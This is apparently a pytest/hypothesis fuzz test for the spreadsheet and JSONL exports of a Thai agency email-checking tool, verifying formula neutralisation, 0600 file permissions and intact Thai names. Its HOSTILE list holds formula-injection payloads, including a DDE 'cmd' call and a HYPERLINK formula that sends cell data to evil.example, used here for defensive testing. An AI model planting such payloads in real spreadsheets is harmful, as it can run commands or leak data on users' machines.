"""Fuzzing the follow-up exports: whatever agencies, verdicts, rules and notes hold, the phone list is written.

What an operator must be able to rely on when opening the list in Excel or LibreOffice:
- `followup_rows`, `write_xlsx`, `write_csv` and `write_jsonl` never crash, on any text (control
  characters, ESC sequences, lone surrogates from decoded SMTP replies, 10 KB notes, Thai);
- no XLSX or CSV cell can start a formula: in XLSX every text cell is a typed string cell (formula-like
  text also carries Excel's quote prefix, and is otherwise kept as written); in CSV no text starts with
  = + - @ tab CR LF, not even after the leading spaces a "trim spaces" CSV import removes;
- the file is created 0600 (it holds phone numbers), replaces an older world-readable one, and
  leaves no temp file behind; one row per agency, the agency's Thai name still readable.

Budgets are examples per test (fuzzkit.Budget): a short default run, the full count with `--slow`.
Each test asserts it ran its whole budget and prints the count (`pytest -rP` shows it).
"""

from __future__ import annotations

import csv
import json
import os
import stat
import string
from collections import Counter
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import strategies as st

from checks.config import DEFAULT_RULES, Rule
from checks.model import (
    FINDING_CODES,
    FLAGS,
    HOST_OK,
    HOST_TIMEOUT,
    PROBE_ACCEPTED,
    PROBE_MAILBOX_REJECTED,
    PROBE_TEMPORARY,
    Agency,
    DnsResult,
    Evidence,
    Finding,
    HostAttempt,
    ProbeResult,
    SmtpReply,
    SuggestedFix,
    Verdict,
    verdict_record,
)
from console.export import (
    FOLLOWUP_COLUMNS,
    followup_header,
    followup_rows,
    write_csv,
    write_jsonl,
    write_xlsx,
)
from tests.reliability.fuzzkit import Budget, run_cases

# Examples per test: the default run's, and the full count --slow runs (what CI ran before: 10x that).
XLSX_CASES = Budget(default=40, slow=1_500)
CSV_CASES = Budget(default=150, slow=4_000)
JSONL_CASES = Budget(default=80, slow=2_000)

FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r", "\n")
TRIMMED = " \t"  # what LibreOffice's "trim spaces" CSV option removes before reading a cell
EXCEL_CELL_LIMIT = 32_767  # longer text makes Excel report the workbook as damaged


# ------------------------------------------------------------------------------------------------
# Generated agencies, verdicts, rules and notes
# ------------------------------------------------------------------------------------------------
THAI = "".join(chr(c) for c in range(0x0E01, 0x0E2F)) + "ะาำเแโใไัิีึืุู็่้๊๋์๐๑๒๓๔๕๖๗๘๙"
CONTROLS = "".join(chr(c) for c in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)])
ODD = "\u200b\u200e\u202e\u2066\u2028\u2029\ufeff\ufffe\uffff\u00a0\u3000\u2003\u1680\u205f"
ALPHABET = THAI + string.ascii_letters + string.digits + " .,;:'\"=+-@/|!()[]{}<>$%&*" + CONTROLS + ODD

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "  +66 55 511 111",
    "\u00a0=1",
    "\u3000@x",
    "\x00=1",
    "\x07=1",
    "\x1b]0;pwned\x07=1",
    "\x1b[31m=1",
    "\x85=1",
    "\u2028=1",
    "\u202e=1",
    "\ud800=1",
    "=\ud83d",
    "'=already quoted",
    "",
    " ",
    "-",
)

lone_surrogate = st.characters(categories=["Cs"])
texts = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(ALPHABET, max_size=40),
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), st.text(ALPHABET, max_size=20)),
    st.builds(lambda a, s, b: a + s + b, st.text(ALPHABET, max_size=8), lone_surrogate, st.text(ALPHABET, max_size=8)),
    st.text(st.characters(), max_size=12),  # any code point, surrogates included
    st.builds(  # 10 KB strings (notes can be 10,000 characters; SMTP replies up to 8 KB)
        lambda start, piece: start + piece * (10_240 // max(1, len(piece))),
        st.sampled_from(HOSTILE),
        st.text(ALPHABET, min_size=1, max_size=8),
    ),
)
dates = st.one_of(
    st.sampled_from(["2026-03-05T10:00:00+07:00", "2025-10-07", "", "๒๕๖๘-๑๐-๐๗", "0001-01-01", "9999-12-31T23:59"]),
    texts,
)

agencies = st.builds(
    Agency,
    id=st.text(string.ascii_lowercase + string.digits + "-", min_size=1, max_size=12),
    name=texts,
    declared=texts,
    seq=st.one_of(st.none(), texts),
    district=texts,
    province=texts,
    kind=texts,
    phone=texts,
    code=texts,
)

replies = st.builds(SmtpReply, code=st.integers(-1, 999), text=texts, enhanced=st.one_of(st.none(), texts))
attempts = st.builds(
    HostAttempt,
    host=texts,
    ip=st.one_of(st.none(), texts),
    port=st.just(25),
    outcome=st.sampled_from([HOST_OK, HOST_TIMEOUT, "refused"]),
)
probes = st.builds(
    ProbeResult,
    address=texts,
    outcome=st.sampled_from([PROBE_ACCEPTED, PROBE_MAILBOX_REJECTED, PROBE_TEMPORARY, "domain_not_found"]),
    dns=st.one_of(st.none(), st.builds(DnsResult, domain=texts, status=st.sampled_from(["ok", "nxdomain", "servfail"]))),
    rcpt=st.one_of(st.none(), replies),
    attempts=st.lists(attempts, max_size=2).map(tuple),
)
evidences = st.builds(
    Evidence,
    declared=texts,
    normalized=st.one_of(st.none(), texts),
    probe=st.one_of(st.none(), probes),
    fix_probe=st.one_of(st.none(), probes),
    rule=texts,
    checked_at=dates,
)
GROUPS = [r.group for r in DEFAULT_RULES]


@st.composite
def verdicts(draw: st.DrawFn, agency_id: str) -> Verdict:
    return Verdict(
        agency_id=agency_id,
        group=draw(st.one_of(st.sampled_from(GROUPS), texts)),
        findings=tuple(draw(st.lists(st.builds(Finding, code=st.one_of(st.sampled_from(sorted(FINDING_CODES)), texts),
                                                message=texts), max_size=3))),
        flags=tuple(draw(st.lists(st.one_of(st.sampled_from(FLAGS), texts), max_size=3))),
        evidence=draw(evidences),
        suggested_fix=draw(st.one_of(st.none(), st.builds(SuggestedFix, address=texts,
                                                          works=st.one_of(st.none(), st.booleans())))),
        checked_at=draw(dates),
    )


# Rules come from an office's TOML: their labels and texts are operator-typed, exported verbatim.
hostile_rules = st.lists(
    st.builds(Rule, group=texts, label_th=texts, label_en=texts, any_of=st.sampled_from([("bad_syntax",), ("free_mail",)]),
              problem_th=texts, fix_th=texts, problem_en=texts, fix_en=texts, bucket=st.sampled_from(["A", "BE", "W"])),
    max_size=2,
).map(lambda extra: (*extra, *DEFAULT_RULES))


@st.composite
def items(draw: st.DrawFn) -> tuple[list[tuple[Agency, Verdict | None, str, list[str]]], tuple[Rule, ...], str]:
    out = []
    for agency in draw(st.lists(agencies, max_size=4)):
        verdict = draw(st.one_of(st.none(), verdicts(agency.id)))
        out.append((agency, verdict, draw(texts), draw(st.lists(texts, max_size=4))))
    return out, draw(st.one_of(st.just(DEFAULT_RULES), hostile_rules)), draw(st.sampled_from(["th", "en"]))


# ------------------------------------------------------------------------------------------------
# Checks
# ------------------------------------------------------------------------------------------------
def formula_like(value: str) -> bool:
    """Would a spreadsheet evaluate this text (as typed, or after trimming leading spaces)?"""
    return value.startswith(FORMULA_CHARS) or value.lstrip(TRIMMED).startswith(FORMULA_CHARS[:4])


def thai_letters(text: str) -> Counter[str]:
    """The Thai letters of a text as a multiset: NFC may reorder Thai tone marks and vowel signs."""
    return Counter(c for c in text if "\u0e01" <= c <= "\u0e5b")


def fresh_target(directory: Path, name: str) -> Path:
    """The export path, pre-created world-readable: the export must replace it with a 0600 file."""
    path = directory / name
    path.write_bytes(b"old")
    path.chmod(0o644)
    return path


def check_file_basics(path: Path) -> None:
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, "exports hold phone numbers: 0600"
    leftovers = [p.name for p in path.parent.iterdir() if p.name.startswith(".") and p.name.endswith(".tmp")]
    assert not leftovers, f"temp files left behind: {leftovers}"


def check_names(exported: list[str], case_items: list[tuple[Agency, Any, str, list[str]]]) -> None:
    for cell, (agency, *_rest) in zip(exported, case_items, strict=True):
        if "\x1b" in agency.name:
            continue  # an escape sequence is removed whole, letters inside it included
        assert thai_letters(agency.name) == thai_letters(cell), "the agency's Thai name must stay readable"


def test_xlsx_export_never_crashes_and_has_no_formula(tmp_path: Path, request: pytest.FixtureRequest) -> None:
    def check(case: Any) -> None:
        case_items, rules, lang = case
        rows = followup_rows(case_items, rules, lang=lang)
        path = fresh_target(tmp_path, "followup.xlsx")
        write_xlsx(path, followup_header(lang), rows)
        check_file_basics(path)
        ws = openpyxl.load_workbook(path).active
        assert ws.max_row == 1 + len(case_items), "one row per agency under the header"
        values = [[c.value for c in row] for row in ws.iter_rows()]
        assert values[0] == followup_header(lang)
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    # typed string cells are inert in XLSX; formula-like text also carries the quote prefix
                    assert cell.data_type == "s", f"{cell.coordinate} is not a string cell"
                    if formula_like(cell.value):
                        assert cell.quotePrefix, f"{cell.coordinate} lacks the quote prefix: {cell.value[:40]!r}"
                    assert len(cell.value) <= EXCEL_CELL_LIMIT
        check_names([str(r[1] or "") for r in values[1:]], case_items)

    examples = XLSX_CASES.examples(request.config)
    assert run_cases("write_xlsx", items(), check, examples) >= examples


def test_csv_export_never_crashes_and_has_no_formula(tmp_path: Path, request: pytest.FixtureRequest) -> None:
    def check(case: Any) -> None:
        case_items, rules, lang = case
        rows = followup_rows(case_items, rules, lang=lang)
        path = fresh_target(tmp_path, "followup.csv")
        write_csv(path, followup_header(lang), rows)
        check_file_basics(path)
        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), "utf-8-sig, so that Excel shows Thai"
        with path.open(encoding="utf-8-sig", newline="") as fh:
            read = list(csv.reader(fh))
        assert read[0] == followup_header(lang)
        assert len(read) == 1 + len(case_items), "one record per agency under the header"
        for record in read:
            assert len(record) == len(FOLLOWUP_COLUMNS)
            for value in record:
                assert not formula_like(value), f"CSV cell starts a formula: {value[:40]!r}"
        check_names([r[1] for r in read[1:]], case_items)

    examples = CSV_CASES.examples(request.config)
    assert run_cases("write_csv", items(), check, examples) >= examples


def test_jsonl_export_never_crashes_and_reads_back(tmp_path: Path, request: pytest.FixtureRequest) -> None:
    def check(case: Any) -> None:
        case_items, _rules, _lang = case
        objects = []
        for agency, verdict, current, notes in case_items:
            obj = verdict_record(agency, verdict) if verdict is not None else {"id": agency.id, "name": agency.name}
            obj["current_address"] = current
            obj["notes"] = notes
            objects.append(obj)
        path = fresh_target(tmp_path, "all.jsonl")
        write_jsonl(path, objects)
        check_file_basics(path)
        lines = path.read_bytes().decode("utf-8").split("\n")[:-1]  # JSON lines end in LF, nothing else
        assert len(lines) == len(objects), "one JSON object per line, one line per agency"
        for line, (agency, *_rest) in zip(lines, case_items, strict=True):
            data = json.loads(line)
            assert data["id"] == agency.id
            assert thai_letters(agency.name) == thai_letters(data["name"])

    examples = JSONL_CASES.examples(request.config)
    assert run_cases("write_jsonl", items(), check, examples) >= examples
